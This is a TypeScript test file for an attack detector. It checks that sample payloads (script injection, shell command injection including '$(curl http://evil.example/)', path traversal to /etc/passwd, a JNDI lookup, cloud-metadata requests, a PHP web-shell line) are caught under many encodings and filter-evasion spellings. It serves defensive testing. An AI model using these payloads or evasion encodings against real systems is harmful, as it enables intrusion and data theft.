import assert from 'node:assert/strict'
import { test } from 'node:test'
import { isAttack } from './fixtures.ts'

/** One attack of each family, as its target would read it. */
const attacks: readonly (readonly [family: string, value: string])[] = [
  ['script element', '<script>alert(7)</script>'],
  ['event handler', '<img src=x onerror=alert(7)>'],
  ['script address', '<a href="javascript:alert(7)">x</a>'],
  ['attribute', '" onfocus="alert(7)" autofocus="'],
  ['string of a script', "';alert(7);//"],
  ['command', ';cat /etc/hostname'],
  ['substitution', '$(curl http://evil.example/)'],
  ['command of Windows', '& type c:\\x.txt'],
  ['path', '../../../../etc/passwd'],
  ['path of Windows', '..\\..\\..\\windows\\win.ini'],
  ['template', "{{''.__class__.__mro__}}"],
  ['lookup', '${jndi:ldap://evil.example/a}'],
  ['expression', '%{(#a=@java.lang.Runtime@getRuntime())}'],
  ['entity', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>'],
  ['server-side request', 'http://169.254.169.254/latest/meta-data/'],
  ['object of PHP', 'O:3:"Foo":1:{s:1:"a";i:1;}'],
  ['function definition', '() { :;}; /bin/id'],
  ['program of PHP', '<?php system($_GET[0]);'],
]

const hex = (code: number, width = 2): string => code.toString(16).padStart(width, '0')

function each(value: string, encode: (code: number, character: string) => string): string {
  return Array.from(value, (character) => encode(character.charCodeAt(0), character)).join('')
}

/** Letters and digits stay as they are. */
function signs(value: string, encode: (code: number) => string): string {
  return each(value, (code, character) => (/[a-z0-9]/i.test(character) ? character : encode(code)))
}

const percent = (value: string): string => each(value, (code) => `%${hex(code)}`)

/** Ways to write them of which a server, a framework or a browser takes something off before it acts. */
const encodings: readonly (readonly [how: string, encode: (value: string) => string])[] = [
  ['percent', percent],
  ['percent, signs only', (value) => signs(value, (code) => `%${hex(code).toUpperCase()}`)],
  ['percent, twice', (value) => each(percent(value), (_, c) => (c === '%' ? '%25' : c))],
  ['percent, signs only, twice', (value) => signs(value, (code) => `%25${hex(code)}`)],
  ['percent, thrice', (value) => signs(value, (code) => `%2525${hex(code)}`)],
  ['overlong UTF-8', (value) => signs(value, (code) => `%c${code >> 6}%${hex(0x80 | (code & 0x3f))}`)],
  ['%u', (value) => signs(value, (code) => `%u${hex(code, 4)}`)],
  ['%u, all', (value) => each(value, (code) => `%u${hex(code, 4)}`)],
  ['decimal references', (value) => each(value, (code) => `&#${code};`)],
  ['hexadecimal references', (value) => each(value, (code) => `&#x${hex(code)};`)],
  [
    'references without a semicolon and with zeros',
    (value) => signs(value, (code) => `&#${String(code).padStart(7, '0')};`),
  ],
  ['base64', (value) => Buffer.from(value).toString('base64')],
  ['base64 for addresses', (value) => Buffer.from(value).toString('base64url')],
  ['hexadecimal', (value) => Buffer.from(value).toString('hex')],
  ['\\x', (value) => signs(value, (code) => `\\x${hex(code)}`)],
  ['\\u', (value) => signs(value, (code) => `\\u${hex(code, 4)}`)],
  ['\\u, all', (value) => each(value, (code) => `\\u${hex(code, 4)}`)],
  ['wide forms', (value) => signs(value, (code) => (code > 0x20 ? String.fromCharCode(code + 0xfee0) : ' '))],
  ['references in percent', (value) => percent(each(value, (code) => `&#${code};`))],
  ['\\u in percent', (value) => percent(signs(value, (code) => `\\u${hex(code, 4)}`))],
]

test('an attack is one in each encoding', () => {
  const missed: string[] = []
  for (const [family, value] of attacks)
    for (const [how, encode] of encodings) if (!isAttack(encode(value))) missed.push(`${family}: ${how}`)
  assert.deepEqual(missed, [])
})

test('an attack is one in capitals, where its target does not care', () => {
  for (const value of [
    '<SCRIPT>x()</SCRIPT>',
    '<IMG SRC=x ONERROR=x()>',
    'JAVASCRIPT:x()',
    '${JNDI:LDAP://x/a}',
    '& TYPE C:\\X.TXT',
    '..\\..\\WINDOWS\\WIN.INI',
  ])
    assert.ok(isAttack(value), value)
})

/** Blanks, comments and quotes that a target takes off and a filter may not. */
const spellings: readonly (readonly [family: string, values: readonly string[]])[] = [
  [
    'script element',
    [
      '<script\t>alert(7)</script\t>',
      '<script\n>alert(7)</script>',
      '<script/x>alert(7)</script>',
      '<script >alert\n(7)</script >',
    ],
  ],
  [
    'event handler',
    [
      '<img\nsrc=x\nonerror\n=\nalert(7)>',
      '<img/src/onerror=alert(7)>',
      '<img src="x"onerror="alert(7)">',
      '<img src=x onerror = alert(7)>',
      '<svg\fonload=alert(7)>',
    ],
  ],
  [
    'script address',
    [
      '<a href="jav\tascript:alert(7)">',
      '<a href=" javascript:alert(7)">',
      '<a href="\u0001javascript:alert(7)">',
      '<a href=javascript:alert(7)>',
      "<a href='javascript&colon;alert(7)'>",
    ],
  ],
  [
    'style',
    [
      '<p style="x:exp/**/ression(alert(7))">',
      '<p style="x:\\65xpression(alert(7))">',
      '<p style="x:expr\\0065ssion(alert(7))">',
    ],
  ],
  [
    'call',
    [
      'alert/**/(7)',
      'alert (7)',
      'window [ "alert" ] (7)',
      "window['al' + 'ert'](7)",
      'alert?.(7)',
      '(alert)(7)',
      'alert`7`',
    ],
  ],
  [
    'command',
    [
      ';c""at /tmp/x',
      ";c''at /tmp/x",
      ';c\\at /tmp/x',
      ';cat$IFS/tmp/x',
      ';cat${IFS}/tmp/x',
      ';cat$IFS$9/tmp/x',
      ';{cat,/tmp/x}',
      ';cat</tmp/x',
      ';/bin/c?t /tmp/x',
      ';\tcat\t/tmp/x',
      ';(cat /tmp/x)',
      '; sudo cat /tmp/x',
    ],
  ],
  [
    'path',
    ['....//....//x', '..//..//x', '..\\/..\\/x', '..;/..;/x', '/x/../../y', './.././../x', '..././..././x'],
  ],
  [
    'lookup',
    [
      '${${lower:j}ndi:ldap://x/a}',
      '${${::-j}ndi:ldap://x/a}',
      '${j${env:X:-n}di:ldap://x/a}',
      '${${upper:j}${upper:n}di:ldap://x/a}',
    ],
  ],
  ['template', ['{{ 7 * 7 }}', "{{7*'7'}}", '{{\t7*7\t}}', '${{7*7}}']],
  [
    'address',
    [
      'http://127.1/',
      'http://0x7f.0.0.1/',
      'http://017700000001/',
      'http://2130706433/',
      'http://[::ffff:127.0.0.1]/',
      'http://a@127.0.0.1/',
      'http://127.0.0.1.nip.io/',
    ],
  ],
]

test('an attack is one in each spelling that its target reads', () => {
  for (const [family, values] of spellings)
    for (const value of values) assert.ok(isAttack(value), `${family}: ${value}`)
})
